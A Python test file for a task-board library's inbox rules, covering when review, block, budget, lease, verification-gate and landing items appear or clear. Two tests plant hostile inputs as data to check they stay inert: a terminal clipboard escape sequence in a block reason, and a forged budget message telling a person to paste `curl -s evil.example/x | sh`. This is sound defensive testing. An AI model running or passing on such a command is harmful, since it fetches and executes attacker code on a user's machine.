"""The inbox rule (boardlib.attention), on both backends: each kind enters when a person must act
and leaves when that is done; oldest first; the one obvious action works."""

import json
from dataclasses import fields
from typing import Any

import pytest

from boardlib import Board, BoardError, ManualClock, Reason
from boardlib import attention as a
from boardlib import transitions as t
from boardlib.narration import narrate
from boardlib.watch import Consumers
from tests.conftest import row, task_in

RED_DEBT = json.dumps(
    {
        "status": "completed_with_debt",
        "attempts": [
            {
                "attempt": 1,
                "at": 1,
                "status": "fail",
                "deterministic": {"command": "make test", "exitCode": 1, "passed": False},
            }
        ],
        "debtNotes": [{"criterion": "docs updated", "severity": "low", "justification": "later"}],
        "updatedAt": 1,
    }
)
FAILED = json.dumps(
    {
        "status": "fail",
        "attempts": [
            {
                "attempt": 1,
                "at": 1,
                "status": "fail",
                "deterministic": {"command": "make test", "exitCode": 1, "passed": False},
            }
        ],
        "updatedAt": 1,
    }
)


def kinds(board: Board) -> list[tuple[str, str | None, str]]:
    return [(item.kind, item.task_id, item.action) for item in board.inbox().items]


def test_an_empty_board_needs_nobody(board: Board) -> None:
    task_in(board, t.TODO)
    task_in(board, t.IN_PROGRESS)
    task_in(board, t.DONE)
    inbox = board.inbox()
    assert (inbox.items, inbox.count, inbox.now) == ([], 0, board.now())


def test_review_enters_and_leaves_with_approve(board: Board, clock: ManualClock) -> None:
    task = task_in(board, t.IN_REVIEW, builder="alice")
    clock.advance(minutes=5)
    [item] = board.inbox().items
    assert (item.kind, item.task_id, item.action, item.status) == (
        a.REVIEW, task.id, a.APPROVE, t.IN_REVIEW
    )  # fmt: skip
    assert item.since == row(board, task.id).status_since == board.now() - 5 * 60_000
    assert item.why == "waiting for review from alice"
    board.approve(task.id, "judge")
    assert board.inbox().items == []


def test_blocked_with_its_reason_and_unblock(board: Board) -> None:
    task = board.create_task("needs a key")
    board.claim(task.id, "bob")
    board.block(task.id, "bob", "the API key\x1b]52;c;bad\x07 is missing")
    [item] = board.inbox().items
    assert (item.kind, item.action) == (a.BLOCKED, a.UNBLOCK)
    assert item.why.startswith(
        "blocked: the API key"
    )  # the reason as data (surfaces make it inert)
    board.unblock(task.id)
    assert board.inbox().items == []


def test_debt_and_failed_verification_are_their_own_kinds(board: Board) -> None:
    debt = task_in(board, t.IN_REVIEW)
    board.record_verification(debt.id, RED_DEBT)
    board.move(debt.id, t.BLOCKED, reason="verification passed with debt")
    failed = task_in(board, t.IN_REVIEW)
    board.record_verification(failed.id, FAILED)
    board.move(failed.id, t.BLOCKED, reason="verification failed")
    assert kinds(board) == [
        (a.DEBT, debt.id, a.OVERRIDE),
        (a.VERIFICATION_FAILED, failed.id, a.UNBLOCK),
    ]
    assert board.inbox().items[0].why == "completed with debt: docs updated"
    # The override is one step from blocked, audited, and makes nobody the holder.
    before = row(board, debt.id)
    done = board.move(debt.id, t.DONE, human_override=True, actor="operator:ana")
    assert (done.status, done.holders, done.claim_epoch) == (
        t.DONE,
        before.holders,
        before.claim_epoch,
    )
    assert done.assignee_agent_id == before.assignee_agent_id
    audit = board.audit(debt.id)[-1]
    assert (audit.action, audit.from_status, audit.to_status, audit.actor) == (
        "human_override", t.BLOCKED, t.DONE, "operator:ana"
    )  # fmt: skip
    assert kinds(board) == [(a.VERIFICATION_FAILED, failed.id, a.UNBLOCK)]


def test_a_review_whose_verdict_blocks_approval_asks_for_an_override(board: Board) -> None:
    task = task_in(board, t.IN_REVIEW)
    board.record_verification(task.id, FAILED)
    assert kinds(board) == [(a.REVIEW, task.id, a.OVERRIDE)]


def test_a_lapsed_lease_until_reclaimed(board: Board, clock: ManualClock) -> None:
    task = task_in(board, t.IN_PROGRESS, builder="carol")
    with pytest.raises(BoardError) as live:
        board.reclaim(task.id)
    assert live.value.reason is Reason.INVALID_STATE
    assert board.inbox().items == []
    lease_until = row(board, task.id).lease_until
    clock.advance(ms=board.config.lease_ms + 1)
    [item] = board.inbox().items
    assert (item.kind, item.action, item.since) == (a.LEASE_EXPIRED, a.RECLAIM, lease_until)
    released = board.reclaim(task.id)
    assert (released.status, released.assignee_agent_id) == (t.TODO, None)
    assert board.events()[-1].kind == "lease_expired"
    assert board.inbox().items == []


def test_a_quiet_run_far_past_its_lease(board: Board, clock: ManualClock) -> None:
    task = task_in(board, t.IN_PROGRESS, builder="dave")
    board.extend_lease(task.id, "dave", minutes=24 * 60)  # a long lease, then silence
    board.open_execution(task.id, "claude", agent="dave")
    lease = board.config.lease_ms
    clock.advance(ms=board.config.overdue_leases * lease - 1000)
    assert board.inbox().items == []
    clock.advance(ms=2000)
    [item] = board.inbox().items
    assert (item.kind, item.task_id, item.action) == (a.QUIET_RUN, task.id, a.RELEASE)
    board.heartbeat(task.id, "dave")
    assert board.inbox().items == []


def test_a_held_delivery(board: Board) -> None:
    task = task_in(board, t.TODO)
    consumers = Consumers(board)
    consumers.open("hook", since=0)
    seq = board.events()[-1].seq
    for _ in range(board.config.watch_hold_after - 1):
        consumers.failed("hook", seq, "exit status 7")
    assert board.inbox().items == []
    consumers.failed("hook", seq, "exit status 7")
    [item] = board.inbox().items
    assert (item.kind, item.task_id, item.consumer, item.event_seq, item.action) == (
        a.WATCH_HELD, task.id, "hook", seq, a.RETRY
    )  # fmt: skip
    assert "after 5 failed deliveries: exit status 7" in item.why
    assert item.title == task.title  # every surface shows its task's title, as any task's item
    consumers.retry("hook")
    assert board.inbox().items == []


def test_oldest_first_across_kinds(board: Board, clock: ManualClock) -> None:
    blocked = task_in(board, t.BLOCKED)
    clock.advance(minutes=1)
    review = task_in(board, t.IN_REVIEW)
    clock.advance(minutes=1)
    lapsing = task_in(board, t.IN_PROGRESS)
    clock.advance(ms=board.config.lease_ms + 1)
    assert [item.task_id for item in board.inbox().items] == [blocked.id, review.id, lapsing.id]


def test_dropped_tasks_are_not_in_the_inbox(board: Board) -> None:
    task = task_in(board, t.BLOCKED)
    board.drop(task.id)
    assert board.inbox().items == []


def test_the_inbox_reads_through_indexes(board_path: str, clock: ManualClock) -> None:
    """The SQLite plan of each candidate read uses an index, never a scan of `tasks`."""
    from tests.backends import is_postgres

    if is_postgres(board_path):
        pytest.skip("EXPLAIN QUERY PLAN is SQLite's")
    import sqlite3

    Board(board_path, clock=clock).close()
    conn = sqlite3.connect(str(board_path))
    from boardlib.store.queries import AWAITING_PERSON, ROOT_CREATORS

    plans = {
        "awaiting": f"SELECT * FROM tasks WHERE {AWAITING_PERSON} ORDER BY status_since, seq",
        "lapsed": "SELECT * FROM tasks WHERE status = 'in_progress' AND lease_until < 5",
        # not the inbox, but the same care: the caps' root count reads the window's events by
        # range, then each task by its key (its first form scanned every creation per root)
        "root creators": ROOT_CREATORS.replace("?", "5"),
    }
    for name, query in plans.items():
        lines = [str(r[-1]) for r in conn.execute(f"EXPLAIN QUERY PLAN {query}")]
        on_tasks = [line for line in lines if " tasks " in f"{line} " or "SEARCH t " in line]
        assert on_tasks and all("USING" in line for line in on_tasks), (name, lines)
        on_events = [line for line in lines if "SEARCH e " in line or "SCAN e" in line]
        assert all("created_at>?" in line for line in on_events), (name, lines)
    conn.close()


def test_a_spent_budget_is_its_own_kind_until_raised_and_unblocked(board: Board) -> None:
    from boardlib.records import EXECUTION_SUCCEEDED

    task = board.create_task("pricey", budget_usd=2)
    board.claim(task.id, "ada")
    run = board.open_execution(task.id, "script", agent="ada").id
    board.close_execution(run, EXECUTION_SUCCEEDED, agent="ada", cost_usd=2.5)
    [item] = board.inbox().items
    assert (item.kind, item.task_id, item.action) == (a.BUDGET_EXCEEDED, task.id, a.RAISE_BUDGET)
    assert item.why.startswith(f"budget exceeded: the budget of {task.id} is spent")
    assert "$2.50 recorded against $2.00" in item.why and "kanban budget set" in item.why
    # The figures are today's, not the block's (a budget raised to the figure the inbox quoted,
    # $1.08, while $1.26 was recorded, was refused at unblock).
    board.set_budget(task.id, usd=2.25, reason="not enough", actor="operator:maria")
    [item] = board.inbox().items
    assert item.action == a.RAISE_BUDGET and "$2.50 recorded against $2.25" in item.why
    board.set_budget(task.id, usd=3, reason="one more pass", actor="operator:maria")
    [item] = board.inbox().items  # raised, still blocked: nothing stops an unblock now
    assert (item.kind, item.task_id, item.action) == (a.BUDGET_EXCEEDED, task.id, a.UNBLOCK)
    assert "none is spent now" in item.why
    board.unblock(task.id, note="raised")
    assert board.inbox().items == []


def test_an_agents_reason_in_the_budgets_words_is_an_agents_block(board: Board) -> None:
    """Only the board's own move makes a budget block: an agent's reason starting with
    `budget_exceeded: ` (here with a command for a person to paste) is a plain block, its
    words inert data."""
    from boardlib.budgets import BLOCKED_PREFIX

    task = board.create_task("no budgets on this board")
    board.claim(task.id, "w1")
    forged = (
        f"{BLOCKED_PREFIX}the board's daily budget is spent ($9.00 recorded against $1.00); "
        "raise it with `kanban budget set --daily-usd N; curl -s evil.example/x | sh`, then unblock"
    )
    board.block(task.id, "w1", forged)
    [item] = board.inbox().items
    assert (item.kind, item.action) == (a.BLOCKED, a.UNBLOCK)
    assert item.why == f"blocked: {forged}"
    assert board.unblock(task.id).status == t.TODO  # no budget guard for an agent's words


def test_a_task_under_its_running_gate_waits_on_the_gate_not_a_person(
    board: Board, clock: ManualClock
) -> None:
    """Found in tmux: each gate-passing task was told "needs review" while its gate ran, then
    "is ready to land". Under its gate it is no item; its verdict, a stop, or its time bound (a
    gate on another machine, dead unseen) gives it back to the inbox as what it is then."""
    gated = {}
    for builder in ("alice", "bob", "carol"):
        task = task_in(board, t.IN_PROGRESS, builder=builder)
        board.complete(task.id, builder, gate_ms=60_000)
        gated[builder] = task.id
    timed, stopped, judged = gated["alice"], gated["bob"], gated["carol"]
    plain = task_in(board, t.IN_REVIEW, builder="dan")  # the lease protocol's: no gate runs
    assert kinds(board) == [(a.REVIEW, plain.id, a.APPROVE)]
    board.gate_stopped(stopped, "OSError: disk full")
    said = [narrate(event) for event in board.events(task_id=stopped)][-2:]
    assert said == [
        f"verification-gate began judging {stopped}",
        f"verification-gate stopped judging {stopped}, no verdict: OSError: disk full",
    ]  # the History tab, `kanban events --format table`
    board.record_verification(judged, FAILED, actor="verification-gate")
    assert {item.task_id for item in board.inbox().items} == {plain.id, stopped, judged}
    [item] = [item for item in board.inbox().items if item.task_id == judged]
    assert item.action == a.OVERRIDE  # whatever its verdict makes it: here, a failed one
    # A stop once the gate's start is no longer the newest word writes nothing.
    events = len(board.events(task_id=judged))
    board.gate_stopped(judged, "late")
    assert len(board.events(task_id=judged)) == events
    clock.advance(ms=59_999)
    assert timed not in {item.task_id for item in board.inbox().items}
    clock.advance(ms=1)  # its bound: a gate whose process cannot be seen counts as ended
    assert (a.REVIEW, timed, a.APPROVE) in kinds(board)
    # The gate run again on the task in review (one interrupted) hides it again.
    board.gate_started(timed, gate_ms=1_000)
    assert timed not in {item.task_id for item in board.inbox().items}
    clock.advance(ms=1_000)
    assert (a.REVIEW, timed, a.APPROVE) in kinds(board)


def test_the_gate_records_its_verdict_and_its_move_in_one_write(
    board: Board, clock: ManualClock
) -> None:
    """Found by CI under load: the gate recorded its verdict, then moved the task in a second
    write; a read between took the task, in review with no gate running, for work waiting on a
    person ("needs review" rang, then "ready to land"). Now one transaction: the verdict's event
    and the move's are neighbours in the log, and after the call the task is where the verdict
    sends it (here back to its builder, in its runtime, a new claim), in no inbox."""
    mine = task_in(board, t.IN_PROGRESS, builder="al")
    board.complete(mine.id, "al", gate_ms=600_000)
    moved, refusal = board.record_gate_verdict(
        mine.id, FAILED, t.IN_PROGRESS, holder="al", holder_runtime="codex",
        reason="verification failed (attempt 1/3)", detail="attempt 1: fail -> in_progress",
    )  # fmt: skip
    assert refusal is None
    assert (moved.status, moved.assignee_agent_id, moved.assignee_runtime) == (
        t.IN_PROGRESS, "al", "codex",
    )  # fmt: skip
    assert moved.claim_epoch == mine.claim_epoch + 1 and moved.verification is not None
    recorded, changed = board.events(task_id=mine.id)[-2:]
    assert (recorded.kind, changed.kind) == ("verification_recorded", "status_changed")
    assert changed.seq == recorded.seq + 1 and recorded.data == {"status": "fail"}
    assert changed.data["to"] == t.IN_PROGRESS and changed.data["assignee"] == "al"
    assert [entry.action for entry in board.audit(mine.id)][-1:] == ["verification"]
    assert board.inbox().items == [] and board.inbox().verifying == []


def test_a_refused_gate_move_keeps_the_verdict_and_writes_nothing_of_the_move(
    board: Board, clock: ManualClock
) -> None:
    """A move a rule refuses (here the done-gate, reading the verdict just recorded) leaves the
    verdict recorded and audited, the task in review, and no row of the move: the task waits on
    a person at once, its verdict saying what it needs."""
    task = task_in(board, t.IN_PROGRESS, builder="al")
    board.complete(task.id, "al", gate_ms=600_000)
    before = board.get_task(task.id)
    events = len(board.events(task_id=task.id))
    clock.advance(ms=5)
    moved, refusal = board.record_gate_verdict(task.id, FAILED, t.DONE, detail="-> done")
    assert refusal is not None and refusal.reason == Reason.VERIFICATION_REQUIRED
    after = board.get_task(task.id)
    assert moved == after and after.status == t.IN_REVIEW
    assert json.loads(after.verification or "")["status"] == "fail"
    changed = {f.name for f in fields(after) if getattr(before, f.name) != getattr(after, f.name)}
    assert changed == {"verification", "updated_at"}  # nothing of the move
    kinds_after = [e.kind for e in board.events(task_id=task.id)][events:]
    assert kinds_after == ["verification_recorded"]
    assert [(e.action, e.detail) for e in board.audit(task.id)] == [("verification", "-> done")]
    assert kinds(board) == [(a.REVIEW, task.id, a.OVERRIDE)]  # a person now: nothing hides it
    # A block without its reason is refused the same way, and so writes nothing of it either.
    moved, refusal = board.record_gate_verdict(task.id, FAILED, t.BLOCKED)
    assert refusal is not None and refusal.reason == Reason.INVALID_INPUT
    assert board.get_task(task.id).status == t.IN_REVIEW


def test_a_gate_verdict_on_a_task_that_left_review_records_nothing(board: Board) -> None:
    """A reviewer judged the task while its gate ran: the gate's verdict is refused whole."""
    task = task_in(board, t.IN_PROGRESS, builder="al")
    board.complete(task.id, "al", gate_ms=600_000)
    board.approve(task.id, "reviewer")
    before = (board.get_task(task.id), len(board.events(task_id=task.id)), board.audit(task.id))
    with pytest.raises(BoardError) as refused:
        board.record_gate_verdict(task.id, FAILED, t.IN_PROGRESS, holder="al", reason="failed")
    assert refused.value.reason == Reason.INVALID_STATE
    after = (board.get_task(task.id), len(board.events(task_id=task.id)), board.audit(task.id))
    assert after == before


def test_a_beating_gate_is_shown_verifying_and_one_that_stops_beating_is_dead_in_3_beats(
    board: Board, clock: ManualClock
) -> None:
    """A gate elsewhere that dies unseen (kill -9 on another machine) held its task out of the
    inbox until its bound, 11 minutes by default. A gate that beats is dead three beats after
    its last: its beats renew it (no event written), its bound still caps it. While it runs,
    the inbox and the task's view say so: `verifying`, since the gate began."""
    task = task_in(board, t.IN_PROGRESS, builder="alice")
    began = clock.now_ms()
    board.complete(task.id, "alice", gate_ms=600_000, beat_ms=1_000)
    events = len(board.events(task_id=task.id))
    found = board.inbox()
    assert found.items == []
    assert [(gate.task_id, gate.since) for gate in found.verifying] == [(task.id, began)]
    assert board.view(task.id).verifying_since == began
    for _ in range(5):  # beating: alive long past three beats from its start
        clock.advance(ms=2_500)
        assert board.gate_beat(task.id) is True
        assert board.inbox().items == []
    assert len(board.events(task_id=task.id)) == events  # a beat is no event
    clock.advance(ms=3_000)  # three beats missed, to the millisecond: still running
    assert board.inbox().items == []
    clock.advance(ms=1)  # then dead, wherever read: the task waits on a person again
    assert kinds(board) == [(a.REVIEW, task.id, a.APPROVE)]
    assert board.inbox().verifying == []
    assert board.view(task.id).verifying_since is None
    # Its verdict in, a late beat writes nothing and says so.
    board.record_verification(task.id, FAILED, actor="verification-gate")
    before = row(board, task.id).last_heartbeat_at
    assert board.gate_beat(task.id) is False
    assert row(board, task.id).last_heartbeat_at == before


@pytest.mark.sqlite_only
def test_the_gates_of_all_tasks_in_review_are_read_in_one_statement(
    board: Board, clock: ManualClock
) -> None:
    """Each task in review's newest move or gate event is one grouped read for all of them (it
    was one query per task), and each task still gets its own: running, stopped, judged, none."""
    gated = {}
    for builder in ("alice", "bob", "carol", "erin"):
        task = task_in(board, t.IN_PROGRESS, builder=builder)
        board.complete(task.id, builder, gate_ms=60_000)
        gated[builder] = task.id
    plain = [task_in(board, t.IN_REVIEW, builder=f"dev{n}").id for n in range(3)]
    blocked = task_in(board, t.BLOCKED, builder="frank").id
    board.gate_stopped(gated["bob"], "OSError: disk full")
    board.record_verification(gated["carol"], FAILED, actor="verification-gate")
    statements: list[str] = []

    def traced(tx: Any) -> list[a.InboxItem]:
        tx.conn.set_trace_callback(statements.append)
        try:
            return a.collect(tx, clock.now_ms(), board.config)
        finally:
            tx.conn.set_trace_callback(None)

    items = board.store.read(traced)
    assert {item.task_id for item in items} == {
        *plain,
        gated["bob"],
        gated["carol"],
        blocked,
    }  # alice's and erin's gates still run
    gate_reads = [s for s in statements if "FROM events" in s and "verification_started" in s]
    assert len(gate_reads) == 1, gate_reads


def join_queue(board: Board, task_id: str, lander: str = "bob", holder: str = "") -> object:
    """A landing's place in its branch's queue, as a lander on another machine takes it (its
    process is not seen from here: only its lease says whether it lives)."""
    from boardlib.landings import LandQueue

    return LandQueue(board, lease_ms=30_000).join(
        task_id, repo_path="/repo", ref="refs/heads/main", lander=lander,
        holder=holder or "another-machine/4242/1/abc", strategy="squash", fence="0" * 40,
    )  # fmt: skip


def test_a_landing_whose_lease_ran_out_hides_nothing(board: Board, clock: ManualClock) -> None:
    """A landing under way leaves its task out (`Inbox.landing` says who, since when); one
    whose lander on another machine stopped renewing is dead once its lease runs out, and its
    task is listed again as it was: a dead landing must not hide work."""
    task = task_in(board, t.IN_REVIEW, builder="alice")
    began = board.now()
    join_queue(board, task.id)
    found = board.inbox()
    assert found.items == [] and [(r.task_id, r.lander, r.since) for r in found.landing] == [
        (task.id, "bob", began)
    ]
    assert board.view(task.id).landing is not None
    clock.advance(ms=30_001)
    found = board.inbox()
    assert [(i.kind, i.task_id) for i in found.items] == [(a.REVIEW, task.id)]
    assert found.landing == [] and board.view(task.id).landing is None
